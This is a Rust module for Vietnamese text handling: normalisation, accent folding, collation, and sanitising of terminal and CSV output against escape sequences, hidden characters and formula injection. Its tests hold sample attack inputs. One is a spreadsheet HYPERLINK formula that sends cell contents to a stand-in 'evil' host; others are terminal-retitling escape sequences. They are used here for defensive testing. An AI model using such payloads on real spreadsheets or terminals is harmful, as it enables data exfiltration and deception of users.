//! Vietnamese text at the boundary: NFC normalisation of every input, the diacritic fold used
//! by search ("Nguyễn Đức" → "nguyen duc"), Vietnamese collation for every sorted list of names
//! (catalogue, procedure picker, reports: "Đất đai" after "Dân số" and before "Giáo dục", not
//! after "Văn hóa" as byte order puts it), and the one sanitiser for text that leaves the
//! program: what reaches a terminal ([`printable`], [`printable_lines`]) or a spreadsheet
//! ([`csv_cell`]). Input is refused when it holds control or hidden characters
//! ([`forbidden_char`], used by every field check); output replaces them anyway, as a second
//! line for data stored before the checks or brought in by other means. Pure.

use std::borrow::Cow;

use std::cmp::Ordering;
use std::sync::OnceLock;

use icu_collator::CollatorBorrowed;
use icu_collator::options::CollatorOptions;
use unicode_normalization::UnicodeNormalization;
use unicode_normalization::char::is_combining_mark;

/// The Vietnamese collator of CLDR (locale `vi`, ICU4X compiled data), made once.
fn collator() -> &'static CollatorBorrowed<'static> {
    static COLLATOR: OnceLock<CollatorBorrowed<'static>> = OnceLock::new();
    COLLATOR.get_or_init(|| {
        CollatorBorrowed::try_new(
            icu_locale_core::locale!("vi").into(),
            CollatorOptions::default(),
        )
        .expect("the Vietnamese collation data is compiled in")
    })
}

/// Compares two names in Vietnamese alphabetical order (a ă â b c d đ e ê … with tones after
/// the letter), the order of every sorted list of names.
pub(crate) fn collate(a: &str, b: &str) -> Ordering {
    collator().compare(a, b)
}

/// The Vietnamese sort key of `s`: comparing keys byte-wise orders as [`collate`] does (for a
/// `sort_by_cached_key` or a `BTreeMap` key).
pub(crate) fn sort_key(s: &str) -> Vec<u8> {
    let mut key = Vec::new();
    let Ok(()) = collator().write_sort_key_to(s, &mut key);
    key
}

/// Normalises input to NFC (input methods sometimes send decomposed characters).
pub fn nfc(s: &str) -> String {
    s.nfc().collect()
}

/// Folds text for accent-insensitive search: NFD, drop combining marks, đ/Đ → d, lowercase.
/// The result is ASCII for Vietnamese input; other scripts keep their base letters.
pub(crate) fn fold(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.nfd() {
        if is_combining_mark(c) {
            continue;
        }
        match c {
            'đ' | 'Đ' => out.push('d'),
            c => out.extend(c.to_lowercase()),
        }
    }
    out
}

/// Splits folded text into search tokens (alphanumeric runs), e.g. for the name index.
pub fn tokens(s: &str) -> Vec<String> {
    fold(s)
        .split(|c: char| !c.is_alphanumeric())
        .filter(|t| !t.is_empty())
        .map(str::to_owned)
        .collect()
}

/// Digits typed in another form (full-width `０１２`, mathematical `𝟎`, circled `①`…) as
/// ASCII digits, by compatibility normalisation (NFKC); digits of other scripts stay as they
/// are, for the caller to refuse.
pub(crate) fn compatibility_digits(s: &str) -> String {
    s.nfkc().collect()
}

/// Characters that change how text is displayed without being seen: bidirectional embeddings,
/// overrides, isolates and marks, zero-width characters and the byte-order mark.
pub fn is_hidden(c: char) -> bool {
    matches!(
        c,
        '\u{061C}'
            | '\u{200B}'..='\u{200F}'
            | '\u{202A}'..='\u{202E}'
            | '\u{2060}'..='\u{2069}'
            | '\u{FEFF}'
    )
}

/// The first character input may not hold: a control character (C0, DEL, C1: the escape
/// sequences that recolour, retitle or clear a terminal start with one) or a hidden one; a line
/// break (`\n`, `\r`) is allowed when `multiline`.
pub(crate) fn forbidden_char(s: &str, multiline: bool) -> Option<char> {
    s.chars()
        .find(|&c| is_hidden(c) || (c.is_control() && !(multiline && matches!(c, '\n' | '\r'))))
}

/// What a forbidden character is shown as: its Control Pictures symbol for C0 and DEL (`␛` for
/// ESC, `␇` for BEL, `␊` for a line break), `�` for the others.
fn shown(c: char) -> char {
    match c {
        '\u{0}'..='\u{1f}' => char::from_u32(0x2400 + c as u32).unwrap_or('\u{FFFD}'),
        '\u{7f}' => '\u{2421}',
        _ => '\u{FFFD}',
    }
}

/// One line of stored text made safe for a terminal or a text file: every control character
/// (line breaks and tabs included) and every hidden character is replaced by a visible symbol,
/// so nothing stored can move the cursor, recolour, retitle or clear the reader's terminal,
/// reorder what it shows, or start a line of its own.
pub(crate) fn printable(s: &str) -> Cow<'_, str> {
    if forbidden_char(s, false).is_none() {
        return Cow::Borrowed(s);
    }
    Cow::Owned(
        s.chars()
            .map(|c| {
                if is_hidden(c) || c.is_control() {
                    shown(c)
                } else {
                    c
                }
            })
            .collect(),
    )
}

/// Multi-line stored text (a reason, a note) for a terminal: each line made [`printable`],
/// every line after the first starting with `indent`, so a line of the text can never pass for
/// a line of the output around it (a forged timeline entry).
pub(crate) fn printable_lines(s: &str, indent: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for (i, line) in s.split(['\n', '\r']).enumerate() {
        if i > 0 {
            out.push('\n');
            out.push_str(indent);
        }
        out.push_str(&printable(line));
    }
    out
}

/// Text the program writes to a terminal as a whole (a message, a report line): control
/// characters other than the line break and the tab become visible symbols, as do hidden ones.
/// The second line of defence behind the field-by-field [`printable`] of stored data.
pub(crate) fn terminal_safe(s: &str) -> Cow<'_, str> {
    let bad = |c: char| is_hidden(c) || (c.is_control() && c != '\n' && c != '\t');
    if !s.chars().any(bad) {
        return Cow::Borrowed(s);
    }
    Cow::Owned(
        s.chars()
            .map(|c| if bad(c) { shown(c) } else { c })
            .collect(),
    )
}

/// True when a spreadsheet could take the cell for a formula (it starts with `=`, `+`, `-`,
/// `@`, a tab or a carriage return), or it is such a cell already guarded by `'`s.
fn csv_guarded(s: &str) -> bool {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => true,
        Some('\'') => csv_guarded(&s[1..]),
        _ => false,
    }
}

/// A CSV cell that a spreadsheet will not run as a formula (OWASP's rule for CSV injection):
/// a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`
/// (and so does one that already starts with `'` before such a character, so that
/// [`csv_cell_read`] gives back exactly the original).
pub(crate) fn csv_cell(s: &str) -> Cow<'_, str> {
    if csv_guarded(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// The inverse of [`csv_cell`], for a CSV the program reads back (the catalogue).
pub(crate) fn csv_cell_read(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if csv_guarded(rest) => rest,
        _ => s,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn folds_vietnamese() {
        assert_eq!(fold("Nguyễn Văn Đức"), "nguyen van duc");
        assert_eq!(fold("CHỨNG THỰC"), "chung thuc");
        // decomposed input folds the same as composed
        let nfd: String = "Trần Thị Ánh".nfd().collect();
        assert_eq!(fold(&nfd), "tran thi anh");
    }

    #[test]
    fn nfc_composes() {
        let nfd: String = "Lạng Sơn".nfd().collect();
        assert_ne!(nfd, "Lạng Sơn");
        assert_eq!(nfc(&nfd), "Lạng Sơn");
    }

    #[test]
    fn vietnamese_collation() {
        let mut fields = vec!["Văn hóa", "Đất đai", "Chứng thực", "Dân số", "Hộ tịch", "Ạ"];
        fields.sort_by(|a, b| collate(a, b));
        assert_eq!(
            fields,
            ["Ạ", "Chứng thực", "Dân số", "Đất đai", "Hộ tịch", "Văn hóa"]
        );
        assert_eq!(collate("an", "ăn"), Ordering::Less);
        assert_eq!(collate("ăn", "ân"), Ordering::Less);
        assert_eq!(collate("ơ", "u"), Ordering::Less);
        assert!(sort_key("Đất đai") > sort_key("Dân số"));
        assert!(sort_key("Đất đai") < sort_key("Giáo dục"));
        // NFC and NFD spell the same name.
        let nfd: String = "Đất đai".nfd().collect();
        assert_eq!(collate(&nfd, "Đất đai"), Ordering::Equal);
    }

    #[test]
    fn tokens_split() {
        assert_eq!(
            tokens("Lê Thị-Hồng, 0912"),
            vec!["le", "thi", "hong", "0912"]
        );
    }

    #[test]
    fn printable_replaces_every_escape() {
        assert_eq!(printable("Lê Thị Hoa"), "Lê Thị Hoa");
        assert_eq!(printable("\u{1b}[31mX\u{1b}[0m\u{7}"), "␛[31mX␛[0m␇");
        assert_eq!(printable("\u{1b}]0;PWNED\u{7}\u{1b}[2J"), "␛]0;PWNED␇␛[2J");
        assert_eq!(printable("a\nb\tc\u{9b}d\u{202e}e\u{7f}"), "a␊b␉c�d�e␡");
        assert!(forbidden_char(&printable("\u{1b}\u{0}\u{85}\u{200b}"), false).is_none());
    }

    #[test]
    fn multiline_text_is_indented() {
        assert_eq!(
            printable_lines("lý do\n  2. 10:00 — giả\r\u{1b}x", "     "),
            "lý do\n       2. 10:00 — giả\n     ␛x"
        );
        assert_eq!(terminal_safe("a\tb\nc\u{1b}"), "a\tb\nc␛");
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        for (raw, cell) in [
            (
                "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
                "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
            ),
            ("+1", "'+1"),
            ("-1+2", "'-1+2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("Lê", "Lê"),
            ("'=a", "''=a"),
            ("'x", "'x"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(raw), cell);
            assert_eq!(csv_cell_read(&csv_cell(raw)), raw);
        }
    }
}
